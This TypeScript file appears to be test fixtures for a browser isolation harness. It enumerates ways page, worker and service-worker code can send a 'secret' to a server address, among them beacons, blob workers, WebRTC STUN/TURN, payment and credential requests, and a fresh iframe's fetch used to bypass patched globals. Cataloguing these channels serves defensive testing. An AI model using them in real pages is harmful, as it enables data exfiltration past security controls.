/**
 * Ways by which code of a page or a worker may send something to `sink`, the address of a server
 * (`http://host:port`). Each function is run by itself in the page, so it uses nothing around it
 * but its own name. What it throws does not matter: the server counts what arrives.
 */
export type Channels = Readonly<Record<string, (sink: string, name: string) => unknown>>;

/** In a page and in a worker. */
export const REQUESTS: Channels = {
  fetch: (sink) => fetch(`${sink}/?secret`),
  'fetch, no-cors': (sink) => fetch(`${sink}/?secret`, { mode: 'no-cors' }),
  'fetch, keepalive': (sink) => fetch(sink, { method: 'POST', body: 'secret', keepalive: true }),
  XMLHttpRequest: (sink) => {
    const request = new XMLHttpRequest();
    request.open('POST', sink);
    request.send('secret');
  },
  'XMLHttpRequest, synchronous': (sink) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${sink}/?secret`, false);
    request.send();
  },
  WebSocket: (sink) => new WebSocket(sink.replace('http', 'ws')),
  EventSource: (sink) => new EventSource(`${sink}/?secret`),
  WebTransport: (sink) => new WebTransport(sink.replace('http', 'https')).ready,
  'Cache.add': async (sink) => (await caches.open('secret')).add(`${sink}/?secret`),
  'import()': (sink) => import(`${sink}/secret.js`),
  FontFace: (sink) => new FontFace('secret', `url(${sink}/secret.woff2)`).load(),
  'nested worker': (sink) => new Worker(`${sink}/secret.js`),
  'worker from a blob that fetches': (sink) => {
    const source = new Blob([`fetch('${sink}/?secret')`], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(source));
  },
  'worker from a blob, importScripts': (sink) => {
    const source = new Blob([`importScripts('${sink}/secret.js')`], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(source));
  },
  'module worker from a blob, import': (sink) => {
    const source = new Blob([`import '${sink}/secret.js'`], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(source), { type: 'module' });
  },
  'worker from data: that fetches': (sink) =>
    new Worker(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(sink))})`),
};

/** In a worker only. */
export const WORKER_REQUESTS: Channels = {
  importScripts: (sink) => Reflect.get(globalThis, 'importScripts')(`${sink}/secret.js`),
};

/** In a service worker only. */
export const SERVICE_WORKER_REQUESTS: Channels = {
  'clients.openWindow': (sink) => Reflect.get(globalThis, 'clients').openWindow(`${sink}/?secret`),
  'client.navigate': async (sink) => {
    const [page] = await Reflect.get(globalThis, 'clients').matchAll();
    return page.navigate(`${sink}/?secret`);
  },
  'icon of a notification': (sink) =>
    Reflect.get(globalThis, 'registration').showNotification('secret', { icon: `${sink}/?secret` }),
  'registration of another scope': (sink) =>
    Reflect.get(globalThis, 'navigator').serviceWorker.register(`${sink}/secret.js`),
};

/** In a page only, without an element. */
export const PAGE_REQUESTS: Channels = {
  sendBeacon: (sink) => navigator.sendBeacon(sink, 'secret'),
  fetchLater: (sink) => Reflect.get(globalThis, 'fetchLater')(`${sink}/?secret`, { activateAfter: 0 }),
  SharedWorker: (sink) => new SharedWorker(`${sink}/secret.js`),
  'SharedWorker from a blob that fetches': (sink) => {
    const source = new Blob([`fetch('${sink}/?secret')`], { type: 'text/javascript' });
    new SharedWorker(URL.createObjectURL(source));
  },
  'service worker of another origin': (sink) => navigator.serviceWorker.register(`${sink}/secret.js`),
  'background fetch': async (sink) => {
    const registration = await navigator.serviceWorker.getRegistration();
    return Reflect.get(registration ?? {}, 'backgroundFetch').fetch('secret', [`${sink}/?secret`]);
  },
  'payment request': (sink) =>
    new PaymentRequest([{ supportedMethods: `${sink}/pay` }], {
      total: { label: 'secret', amount: { currency: 'USD', value: '1' } },
    }).canMakePayment(),
  'federated credential': (sink) =>
    navigator.credentials.get(
      JSON.parse(`{"identity":{"providers":[{"configURL":"${sink}/c.json","clientId":"secret"}]}}`),
    ),
  'WebRTC, STUN': async (sink) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(sink).host}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'WebRTC, TURN': async (sink) => {
    const urls = `turn:${new URL(sink).host}?transport=tcp`;
    const connection = new RTCPeerConnection({
      iceServers: [{ urls, username: 'secret', credential: 'secret' }],
    });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  },
};

/**
 * With the functions of a fresh frame, which the page's own code cannot have changed.
 */
export const FRAME_REQUESTS: Channels = {
  'fetch of a fresh frame': (sink) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const { fetch: fetchOfFrame } = frame.contentWindow as Window & typeof globalThis;
    return fetchOfFrame(`${sink}/?secret`);
  },
  'WebRTC of a fresh frame': async (sink) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const { RTCPeerConnection: Connection } = frame.contentWindow as Window & typeof globalThis;
    const connection = new Connection({ iceServers: [{ urls: `stun:${new URL(sink).host}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  },
};
